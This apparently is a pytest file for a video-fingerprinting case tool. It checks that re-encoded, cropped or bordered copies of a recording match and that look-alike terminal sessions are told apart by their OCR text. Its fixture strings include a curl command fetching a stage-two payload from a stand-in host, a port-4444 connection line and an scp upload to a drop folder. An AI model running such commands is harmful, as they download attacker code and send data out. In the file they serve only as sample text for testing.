# SPDX-License-Identifier: GPL-3.0-or-later
"""The same recording re-encoded, rescaled, cropped or bordered is recognised; another one is not."""

from __future__ import annotations

import json
import random
import sqlite3
import sys
from pathlib import Path

import av
import numpy as np
import pytest
from PIL import Image

from desktop.core.recordings import SAME_SHARE, TEXT_SHARE, fingerprints, match, same_recordings
from desktop.ingest.fingerprint import Fingerprint

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from ingest.recordings import make, render


def _copy(source: Path, target: Path, *, size: tuple[int, int], border: int = 0, crop: float = 0.0,
          bitrate: int = 300_000) -> Path:
    """Re-encodes a video as a platform would: another size, a border or a crop, a low bitrate."""
    with av.open(str(source)) as src, av.open(str(target), "w") as out:
        stream = out.add_stream("libx264", rate=30)
        stream.width, stream.height = size
        stream.pix_fmt = "yuv420p"
        stream.bit_rate = bitrate
        for frame in src.decode(video=0):
            image = frame.to_image()
            if crop:
                w, h = image.size
                image = image.crop((int(w * crop), int(h * crop), int(w * (1 - crop)), int(h * (1 - crop))))
            inner = (size[0] - 2 * border, size[1] - 2 * border)
            canvas = Image.new("RGB", size, (0, 0, 0))
            canvas.paste(image.resize(inner), (border, border))
            for packet in stream.encode(av.VideoFrame.from_image(canvas)):
                out.mux(packet)
        for packet in stream.encode():
            out.mux(packet)
    return target


def _fingerprint(path: Path) -> dict[str, object]:
    fp = Fingerprint()
    with av.open(str(path)) as container:
        for frame in container.decode(video=0):
            fp.offer(float(frame.time or 0.0), np.asarray(frame.to_ndarray(format="gray")))
    return fp.to_dict()


@pytest.fixture(scope="module")
def videos(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("copies")
    original = render(make("typed", 5, duration_s=12, small=True), folder / "original.mp4")
    return {
        "original": original,
        "bordered": _copy(original, folder / "bordered.mp4", size=(480, 270), border=16),
        "cropped": _copy(original, folder / "cropped.mp4", size=(640, 360), crop=0.04, bitrate=200_000),
        "other": render(make("typed", 6, duration_s=12, small=True), folder / "other.mp4"),
        "other-theme": render(make("light", 5, duration_s=12, small=True), folder / "other-theme.mp4"),
    }


def test_copies_match_and_other_recordings_do_not(videos: dict[str, Path]) -> None:
    prints = {name: _fingerprint(path) for name, path in videos.items()}
    samples = {name: fingerprints_of(fp) for name, fp in prints.items()}
    for copy in ("bordered", "cropped"):
        share, offset = match(samples["original"], samples[copy])
        assert share >= SAME_SHARE, (copy, share)
        assert abs(offset) <= 1.0
    for other in ("other", "other-theme"):
        share, _ = match(samples["original"], samples[other])
        assert share < SAME_SHARE, (other, share)


def fingerprints_of(fp: dict[str, object]) -> list[tuple[float, int, int]]:
    rows = fp["samples"]
    assert isinstance(rows, list)
    return [(float(t), int(p, 16), int(d, 16)) for t, p, d in rows]


def test_same_recordings_across_items_and_cases(videos: dict[str, Path], tmp_path: Path) -> None:

    def case_db(folder: Path, media: dict[int, tuple[str, Path]]) -> sqlite3.Connection:
        folder.mkdir()
        conn = sqlite3.connect(folder / "case.sqlite")
        conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT)")
        conn.execute("CREATE TABLE media (item_id INTEGER, kind TEXT, detail TEXT)")
        for item_id, (name, path) in media.items():
            conn.execute("INSERT INTO items VALUES (?, ?)", (item_id, name))
            conn.execute("INSERT INTO media VALUES (?, 'video', ?)",
                         (item_id, json.dumps({"fingerprint": _fingerprint(path)})))
        conn.commit()
        return conn

    mine = case_db(tmp_path / "mine.casetrail", {1: ("original.mp4", videos["original"]),
                                                 2: ("other.mp4", videos["other"]),
                                                 3: ("reposted.mp4", videos["cropped"])})
    case_db(tmp_path / "theirs.casetrail", {7: ("bordered.mp4", videos["bordered"])}).close()
    assert set(fingerprints(mine)) == {1, 2, 3}
    found = same_recordings(mine, others=[("x", "Earlier campaign", tmp_path / "theirs.casetrail")])
    assert [c.other_item_id for c in found[1]] == [3, 7] or [c.other_item_id for c in found[1]] == [7, 3]
    texts = [c.describe() for c in found[1]]
    # no OCR lines in these cases: the pictures alone decide, and the match says so
    assert any(t.startswith("same recording as item 3, ") and t.endswith("% of frames (pictures only)")
               for t in texts)
    assert any("in case 'Earlier campaign'" in t for t in texts)
    assert 2 not in found  # a different session that looks alike is not a copy


def _text_case(folder: Path, videos: dict[int, list[str] | None]) -> sqlite3.Connection:
    """A case whose videos all have the same pictures (one sequence of hashes) and their own text."""
    rng = random.Random(3)
    samples = [[round(0.5 * i, 3), f"{rng.getrandbits(256):064x}", f"{rng.getrandbits(256):064x}"]
               for i in range(20)]
    folder.mkdir()
    conn = sqlite3.connect(folder / "case.sqlite")
    conn.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT, same_as INTEGER)")
    conn.execute("CREATE TABLE media (item_id INTEGER, kind TEXT, detail TEXT)")
    conn.execute("CREATE TABLE ocr_lines (item_id INTEGER, text TEXT)")
    for item_id, lines in videos.items():
        conn.execute("INSERT INTO items VALUES (?, ?, NULL)", (item_id, f"v{item_id}.mp4"))
        conn.execute("INSERT INTO media VALUES (?, 'video', ?)",
                     (item_id, json.dumps({"fingerprint": {"samples": samples}})))
        conn.executemany("INSERT INTO ocr_lines VALUES (?, ?)", [(item_id, t) for t in lines or []])
    conn.commit()
    return conn


SESSION_A = [f"$ whois 185.141.63.{n} | grep -i netname" for n in range(10)] + [
    "$ curl -sk -o /tmp/payload.bin http://cdn-drop.example.top/stage2.bin",
    "Connection to 185.141.63.120 4444 port [tcp/*] succeeded!"]
SESSION_B = [f"$ dig +short vote-{n}.example.de" for n in range(10)] + [
    "$ scp backup.tar.gz svc-web@files.example.ch:/srv/drop/"]


def test_pictures_alike_but_text_apart_are_not_the_same_recording(tmp_path: Path) -> None:
    # two different terminal sessions hash alike (dark screen, sparse grey text): the text tells
    conn = _text_case(tmp_path / "c.casetrail", {1: SESSION_A, 2: SESSION_B, 3: [*SESSION_A[2:], "$ exit"],
                                                 4: ["$ ls"]})
    found = same_recordings(conn)
    assert {c.other_item_id for c in found[2]} == {4}  # not 1 nor 3: their text is another
    copies = {c.other_item_id: c for c in found[1]}
    assert set(copies) == {3, 4}
    share = copies[3].text_share
    assert share is not None
    assert share >= TEXT_SHARE
    assert copies[3].describe().endswith("% of the text")
    assert copies[4].text_share is None  # too little text on item 4 to compare
    assert copies[4].describe().endswith("(pictures only)")
    assert copies[3].to_json()["text_share"] == round(share, 3)
